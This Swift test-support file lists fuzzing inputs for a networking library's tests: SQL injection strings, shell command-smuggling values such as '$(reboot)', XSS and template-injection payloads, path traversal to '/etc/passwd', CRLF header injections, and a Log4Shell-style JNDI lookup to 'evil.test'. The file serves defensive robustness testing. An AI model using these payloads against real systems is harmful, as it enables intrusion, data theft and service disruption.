import NetKitTesting

/// What attackers write, and what is taken for something else than text.
extension AwkwardString {
    static let sql = [
        "'; DROP TABLE users;--", "' OR '1'='1", "1; SELECT 1", "\" OR \"\"=\"", "a'--", "a/*b*/c",
        "1 UNION SELECT NULL,NULL#", "%' AND 1=1 LIKE '%", "\\'; x", "0x27", "CHAR(39)",
    ]

    static let shell = [
        "$(reboot)", "`reboot`", "; reboot", "| cat", "&& true", "|| true", "> /dev/null", "< in",
        "$HOME",
        "${HOME}", "~", "~root", "*", "?", "!!", "a b", "\\n", "-rf", "--help", "a'b", "a\"b",
        "$IFS$9",
        "%PATH%", "%COMSPEC%", "() { :;}; x", "\u{1B}[31mred\u{1B}[0m", "\u{8}\u{8}",
    ]

    static let markup = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><b>", "'><b>",
        "</textarea>",
        "&lt;b&gt;", "&#60;", "&#x3C;", "&nbsp;", "<!--", "-->", "<![CDATA[x]]>", "]]>", "<?xml?>",
        "<!DOCTYPE a [<!ENTITY b \"c\">]>", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "\\u0041",
        "\\x41", "\\u{41}", "{\"a\":1}", "{\"a\":", "[1,2", "\"", "null", "\u{2028}",
        "</script\u{0}>",
    ]

    static let paths = [
        ".", "..", "...", "....", "./", "../", "..\\", ".\\", "../..", "../../etc/passwd", "..%2f",
        "..%5c",
        "%2e", "%2e%2e", "%2E%2e", ".%2e", "%2e.", "%252e%252e", "%2e%2e%2f", ".;", "..;", "..;/",
        " ..",
        ".. ", "..\t", "..\u{0}", "..\u{301}", "\u{FF0E}\u{FF0E}", "\u{2024}\u{2024}", "\u{2025}",
        "..\u{2215}", "..\u{FF0F}", "..\u{FEFF}", ".hidden", "a.", "a..", "..a", "C:\\", "C:",
        "CON",
        "\\\\?\\C:\\", "file.txt::$DATA", "/etc/passwd", "//", "/.", "/..", "a/../b", "a/./b", "~/",
    ]

    static let headerInjections = [
        "a\r\nX-B: b", "a\nX-B: b", "a\rX-B: b", "\r\nX-B: b", "a\r\n", "a\n", "a\r", "\r\n\r\n<b>",
        "a\r\n b", "a\r\n\tb", "a\n\tb", "a\u{0}b", "a%0d%0aX-B: b", "a\u{85}X-B: b",
        "a\u{2028}X-B: b",
        "a\u{560D}\u{560A}X-B: b", "a\u{10D}\u{10A}X-B: b", "a\\r\\nX-B: b", "a\u{B}b", "a\u{C}b",
        "\r\r\n", "\n\r", "a: b", ": b", "a;b", "a, b", "\"a", "\"a\\", "=?utf-8?q?a?=", "(a", "\\",
    ]

    static let formats = [
        "%s%s%s%n", "%d", "%@", "%1$s", "%.9999f", "{0}", "{0:x}", "%(a)s", "$1", "\\1", "\\0",
        "%x%x",
        "${jndi:ldap://evil.test/a}", "$@", "#{x}", "%{x}", "%<a>", "<%s>",
    ]

    static let literals = [
        "nil", "null", "NULL", "None", "undefined", "NaN", "Infinity", "true", "false", "yes", "no",
        "0",
        "-0", "1e309", "0x1F", "1_000", "007", "1.0", ".5", "5.", "+1", "-1", "9223372036854775808",
        "１２３", "½", "٣", "Ⅳ", "1,5", "2026-02-30", "Optional(\"a\")", "[object Object]", "()",
    ]

    static let long = [
        ("a", 255), ("a", 256), ("a", 2_048), ("%", 700), (" ", 700), ("+", 700), ("é", 512),
        ("🙂", 256),
        ("e\u{301}", 300), ("a\u{301}\u{302}\u{303}", 150), ("\u{301}", 300), ("../", 300),
        ("ab ", 500),
    ]
    .map { String(repeating: $0.0, count: $0.1) }

    /// Scalars of all planes, most of them where most scripts are.
    static let anyScalar: [UInt32] = {
        var generator = SeededGenerator(seed: 4)
        let ranges: [ClosedRange<UInt32>] = [
            0...0x7F, 0...0x7F, 0x80...0x7FF, 0x800...0xD7FF, 0xE000...0xFFFF, 0x10000...0x1FFFF,
            0x20000...0x10FFFF,
        ]
        return (0..<2_000)
            .compactMap { _ in
                ranges.randomElement(using: &generator)
                    .map { UInt32.random(in: $0, using: &generator) }
            }
    }()
}
